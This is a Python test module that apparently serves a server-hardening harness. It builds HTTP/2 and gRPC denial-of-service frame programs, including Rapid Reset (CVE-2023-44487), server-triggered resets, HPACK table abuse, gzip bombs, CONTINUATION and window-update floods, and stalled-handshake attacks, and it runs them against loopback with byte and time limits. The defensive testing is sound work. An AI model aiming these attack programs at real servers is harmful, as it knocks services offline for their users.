"""HTTP/2 attacks: programs of raw frames, each with a bound on its bytes, connections and time. For loopback only."""

from __future__ import annotations

import asyncio
import gzip
import itertools
import json
import random
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import asdict, dataclass, field
from struct import pack
from typing import Final

from hpack import Encoder

from landsraad_http2 import frames
from landsraad_http2.frames import CONTINUATION, END_HEADERS, HEADERS, PADDED, PRIORITY, frame
from landsraad_http2.headers import literal
from landsraad_testkit.http2_peer import call, message, request

#: Bytes that are sent at a time, at most.
_CHUNK_BYTES: Final = 64 << 10
#: What an answer has in "unread answers".
_ANSWER_BYTES: Final = 300_000

Program = Callable[[], Iterator[bytes]]


@dataclass(frozen=True, slots=True)
class AttackProgram:
    """A program of frames that one connection sends, and what its client does besides."""

    #: the frames after the preface and the client's settings; a connection stays open when they are all sent
    program: Program
    settings: tuple[tuple[int, int], ...] = ()
    #: whether the client acknowledges the server's settings, and whether it says anything by itself
    acknowledges: bool = True
    greets: bool = True
    #: whether it takes what the server sends
    reads: bool = True
    #: seconds between two chunks
    pause: float = 0.0
    #: connections at a time, and in all
    connections: int = 4
    most_connections: int = 40
    #: how long it is worth watching
    seconds: float = 1.0


@dataclass(slots=True)
class AttackEffort:
    """The effort of an attack."""

    sent: int = 0
    received: int = 0
    opened: int = 0
    #: connections that the server has ended
    ended: int = 0
    refused: int = 0
    #: error codes of GOAWAY frames
    codes: list[int] = field(default_factory=list)


def _odd() -> Iterator[int]:
    return itertools.count(1, 2)


def _again(*parts: bytes) -> Iterator[bytes]:
    chunk = b"".join(parts)
    while True:
        yield chunk


def _unfolding(method: str, uses: int = 3) -> Iterator[bytes]:
    """Calls of 95 bytes with headers of 16 kB: a long entry of the dynamic table, named again and again."""
    plain = request(method)[1:]
    first = b"\x40" + literal(b"x-long", b"y" * 3990)[1:]
    yield frames.headers(1, plain + first)
    for numbers in _hundreds(3):
        yield b"".join(frames.headers(number, plain + b"\xbe" * uses) for number in numbers)


def _hundreds(first: int) -> Iterator[range]:
    for start in itertools.count(first, 200):
        yield range(start, start + 200, 2)


def _unread(method: str = "Repeat", body: bytes = b"%d 1" % _ANSWER_BYTES) -> Iterator[bytes]:
    for numbers in _hundreds(1):
        yield b"".join(call(number, method, body) for number in numbers)


def _huffman(size: int) -> Iterator[bytes]:
    """Calls of a method that is not there, each with a new block of that many bytes, all of it Huffman-coded."""
    encoder = Encoder()
    encoder.header_table_size = 0
    encoder.encode([])  # says so, once
    packed = encoder.encode([("x-long", "a0" * (size * 8 // 10))], huffman=True)
    for number in _odd():
        yield frames.headers(number, request("Missing", x_number=str(number)) + packed, last=True)


def _one_byte_data() -> Iterator[bytes]:
    yield frames.headers(1, request("Count")) + frames.data(1, frames.message_prefix(3 << 20))
    yield from _again(frames.data(1, b"x") * 1000)


def _small_data(size: int) -> Iterator[bytes]:
    yield frames.headers(1, request("Count")) + frames.data(1, frames.message_prefix(3 << 20))
    yield from _again(frames.data(1, b"x" * size) * 500)


def _unary() -> Iterator[bytes]:
    for numbers in _hundreds(1):
        yield b"".join(call(number) for number in numbers)


def _empty_messages() -> Iterator[bytes]:
    yield frames.headers(1, request("Chat"))
    yield from _again(frames.data(1, message(b"")) * 1000)


def _per_call(build: Callable[[int], bytes]) -> Iterator[bytes]:
    for numbers in _hundreds(1):
        yield b"".join(build(number) for number in numbers)


def _begun_and_cancelled(number: int) -> bytes:
    """CVE-2023-44487."""
    return call(number, "Hold") + frames.rst_stream(number, _CANCEL)


def _begun_and_broken(number: int) -> bytes:
    """CVE-2025-8671: it is the server that resets the stream."""
    return call(number, "Hold") + frames.window_update(number, 0)


def _bombs() -> Iterator[bytes]:
    bomb = gzip.compress(bytes(3_900_000))
    block = request("Count", grpc_encoding="gzip")
    packed = pack(">BI", 1, len(bomb)) + bomb
    for number in _odd():
        yield frames.headers(number, block) + frames.data(number, packed, last=True)


def _bombs_on_a_stream() -> Iterator[bytes]:
    bomb = gzip.compress(bytes(3_900_000))
    packed = frames.data(1, pack(">BI", 1, len(bomb)) + bomb)
    yield frames.headers(1, request("Deaf", grpc_encoding="gzip"))
    yield from _again(packed * 4)


def _garbage() -> Iterator[bytes]:
    dice = random.Random(2)
    while True:
        yield dice.randbytes(10_000)


def _bytewise(said: bytes) -> Iterator[bytes]:
    for byte in said:
        yield bytes((byte,))


def _window_updates() -> Iterator[bytes]:
    yield call(1, "Repeat", b"100000 100")
    yield from _again(frames.window_update(1, 1) * 1000)


def _late_windows() -> Iterator[bytes]:
    yield call(1)
    yield from _again(frames.window_update(1, 1) * 1000)


def _continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, request())
    yield from _again(frame(CONTINUATION, 0, 1, b""))


def _large_blocks() -> Iterator[bytes]:
    for number in _odd():
        rest = frame(CONTINUATION, 0, number, bytes(16_000))
        yield frame(HEADERS, 0, number, request()) + rest + frame(CONTINUATION, END_HEADERS, number, bytes(14_000))


def _unread_streams() -> Iterator[bytes]:
    """Answers without end and windows without bound; the client reads nothing of its socket."""
    yield frames.window_update(0, frames.MOST_WINDOW - 65_535)
    yield b"".join(call(number, "Repeat", b"60000 100000") for number in range(1, 41, 2))
    yield from _again(frames.window_update(1, 1_000))


def _tiny_fields(method: str) -> Iterator[bytes]:
    """New blocks of 47 fields with five bytes each, that go in and out of the table."""
    names = [bytes((97 + each % 26, 97 + each // 26)) for each in range(40)]
    fields = b"".join(b"\x40" + literal(name, b"x")[1:] for name in names)
    for number in _odd():
        block = request(method, x_number=str(number))[1:] + fields
        yield frames.headers(number, block) + frames.data(number, message(), last=True)


def _remembered() -> Iterator[bytes]:
    """Blocks that their connection remembers, for each has a secret."""
    tiny = b"".join(literal(b"a%x" % each, b"b") for each in range(23))
    for number in range(1, 33, 2):
        block = request("Echo", authorization=str(number)) + tiny
        yield frames.headers(number, block) + frames.data(number, message(), last=True)


def _mixed() -> Iterator[bytes]:
    """A little of everything, below each single bound."""
    dice = random.Random(3)
    yield frames.headers(1, request("Chat")) + frames.headers(3, request("Count"))
    for number in itertools.count(5, 6):
        yield b"".join(
            [
                call(number) + frames.rst_stream(number, _CANCEL),
                frames.headers(number + 2, request("Missing", x=dice.randbytes(400).hex()), last=True),
                call(number + 4, "Repeat", b"2000 1"),
                frames.data(1, message(b"")) * 3,
                frames.window_update(1, 100),
                frame(PRIORITY, 0, 1, bytes(4) + b"\1"),
            ]
        )


def _nothing() -> Iterator[bytes]:
    return iter(())


_CANCEL: Final = frames.CANCEL
_STALLED: Final = frames.PREFACE + frames.settings() + call(1)

ATTACKS: Final[dict[str, AttackProgram]] = {
    # what worked once (hardening.md, F1 to F3)
    "unfolding headers": AttackProgram(lambda: _unfolding("Chat"), acknowledges=False, connections=20),
    "unfolding headers of unary calls": AttackProgram(lambda: _unfolding("Echo"), acknowledges=False, connections=20),
    "unread answers": AttackProgram(_unread, settings=((frames.INITIAL_WINDOW_SIZE, 0),)),
    "huffman blocks": AttackProgram(lambda: _huffman(15_000)),
    "small huffman blocks": AttackProgram(lambda: _huffman(1_000)),
    "one-byte data": AttackProgram(_one_byte_data),
    "small data": AttackProgram(lambda: _small_data(60)),
    "unary calls without pause": AttackProgram(_unary),
    "empty messages": AttackProgram(_empty_messages),
    "window updates": AttackProgram(_window_updates, settings=((frames.INITIAL_WINDOW_SIZE, 0),)),
    "window updates after the end": AttackProgram(_late_windows),
    "unread streams": AttackProgram(
        _unread_streams, reads=False, pause=0.05, connections=500, most_connections=500, seconds=5.0
    ),
    "tiny fields": AttackProgram(lambda: _tiny_fields("Echo"), acknowledges=False),
    "tiny fields of missing methods": AttackProgram(lambda: _tiny_fields("Missing"), acknowledges=False),
    "remembered headers": AttackProgram(_remembered, connections=500, most_connections=500, seconds=2.0),
    "a little of everything": AttackProgram(_mixed),
    # what held
    "continuations": AttackProgram(_continuations, acknowledges=False),
    "blocks that are too long": AttackProgram(_large_blocks, acknowledges=False),
    "settings": AttackProgram(lambda: _again(frames.settings(((frames.INITIAL_WINDOW_SIZE, 70_000),)) * 1000)),
    "pings": AttackProgram(lambda: _again(frames.ping(bytes(8)) * 1000)),
    "priorities": AttackProgram(lambda: _again(frame(PRIORITY, 0, 1, pack(">IB", 0, 1)) * 1000)),
    "rapid reset": AttackProgram(
        lambda: _per_call(lambda number: call(number, "Hold") + frames.rst_stream(number, _CANCEL))
    ),
    "made to reset": AttackProgram(
        lambda: _per_call(lambda number: call(number, "Hold") + frames.window_update(number, 0))
    ),
    "empty data": AttackProgram(
        lambda: itertools.chain([frames.headers(1, request("Chat"))], _again(frames.data(1, b"") * 1000))
    ),
    "padding": AttackProgram(
        lambda: itertools.chain(
            [frames.headers(1, request("Chat"))], _again(frame(frames.DATA, PADDED, 1, b"\xc8" + bytes(200)) * 100)
        )
    ),
    "missing methods": AttackProgram(lambda: _per_call(lambda number: call(number, "Missing"))),
    "open calls": AttackProgram(lambda: _per_call(lambda number: frames.headers(number, request("Echo")))),
    "gzip bombs": AttackProgram(_bombs),
    "gzip bombs on a stream": AttackProgram(_bombs_on_a_stream),
    "slow": AttackProgram(lambda: _bytewise(_STALLED), greets=False, pause=0.1, connections=200, most_connections=400),
    "garbage": AttackProgram(_garbage, greets=False, most_connections=400),
    "stalled handshakes": AttackProgram(_nothing, greets=False, connections=2_000, most_connections=2_000, seconds=5.0),
    "half-open": AttackProgram(
        lambda: iter([frames.PREFACE[:10]]), greets=False, connections=500, most_connections=500, reads=False
    ),
    "idle": AttackProgram(_nothing, connections=5_000, most_connections=5_000, seconds=10.0),
}


class Attacker:
    """Runs one attack against a port of this machine, until its time or its bytes are used up."""

    def __init__(
        self,
        attack: AttackProgram,
        port: int,
        *,
        seconds: float = 2.0,
        most_bytes: int = 4 << 20,
        rate: float = float("inf"),
        sources: tuple[str, ...] = ("127.0.0.1",),
    ) -> None:
        self.tally = AttackEffort()
        self._attack = attack
        self._port = port
        self._seconds = seconds
        self._most_bytes = most_bytes
        self._rate = rate
        self._sources = itertools.cycle(sources)
        self._until = 0.0
        self._started = 0.0
        #: set once every connection is open, or was refused
        self.open = asyncio.Event()

    async def run(self) -> AttackEffort:
        """AttackProgram; return the effort."""
        self._started = time.monotonic()
        self._until = self._started + self._seconds
        async with asyncio.TaskGroup() as group:
            for _ in range(self._attack.connections):
                group.create_task(self._keep_on())
        return self.tally

    def _spent(self) -> bool:
        return time.monotonic() >= self._until or self.tally.sent >= self._most_bytes

    async def _keep_on(self) -> None:
        tally, attack = self.tally, self._attack
        while time.monotonic() < self._until and tally.opened < attack.most_connections:
            tally.opened += 1
            if tally.opened >= attack.connections:
                self.open.set()
            try:
                await self._converse()
            except OSError:
                tally.refused += 1
            await asyncio.sleep(0)

    async def _converse(self) -> None:
        """One connection, until the server ends it or the time is over."""
        attack = self._attack
        source = (next(self._sources), 0)
        reader, writer = await asyncio.open_connection("127.0.0.1", self._port, local_addr=source, limit=1 << 16)
        raw = writer.get_extra_info("socket")
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, _CHUNK_BYTES)
        gone = asyncio.Event()
        reading = asyncio.create_task(self._read(reader, writer, gone)) if attack.reads else None
        try:
            async with asyncio.timeout_at(asyncio.get_running_loop().time() + max(0.0, self._until - time.monotonic())):
                if attack.greets:
                    await self._send(writer, frames.PREFACE + frames.settings(attack.settings))
                for chunk in attack.program():
                    if gone.is_set() or self._spent():
                        break
                    await self._send(writer, chunk)
                    await asyncio.sleep(attack.pause)
                await gone.wait()
        except TimeoutError:
            pass
        except OSError:
            self.tally.ended += 1
        finally:
            if reading is not None:
                reading.cancel()
                with suppress(asyncio.CancelledError):
                    await reading
            writer.transport.abort()

    async def _send(self, writer: asyncio.StreamWriter, chunk: bytes) -> None:
        tally = self.tally
        ahead = tally.sent / self._rate - (time.monotonic() - self._started)
        if ahead > 0:
            await asyncio.sleep(ahead)
        writer.write(chunk)
        await writer.drain()
        tally.sent += len(chunk)

    async def _read(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, gone: asyncio.Event) -> None:
        """Take what the server sends, acknowledge its settings, and notice its end."""
        tally = self.tally
        known = frames.FrameReader(1 << 24)
        try:
            while data := await reader.read(1 << 16):
                tally.received += len(data)
                for kind, flags, _, payload in known.feed(data):
                    if kind == frames.GOAWAY:
                        tally.codes.append(int.from_bytes(payload[4:8], "big"))
                    elif kind == frames.SETTINGS and not flags & frames.ACK and self._attack.acknowledges:
                        writer.write(frames.SETTINGS_ACK)
        except (OSError, frames.ConnectionFault):
            pass
        tally.ended += 1
        gone.set()


def main(arguments: list[str]) -> None:
    """Run an attack in a process of its own: `NAME PORT SECONDS BYTES RATE [SOURCE ...]`. Print its effort."""
    name, port, seconds, most, rate, *sources = arguments
    attacker = Attacker(
        ATTACKS[name],
        int(port),
        seconds=float(seconds),
        most_bytes=int(most),
        rate=float(rate),
        sources=tuple(sources) or ("127.0.0.1",),
    )
    print("ready", flush=True)
    print(json.dumps(asdict(asyncio.run(attacker.run()))), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
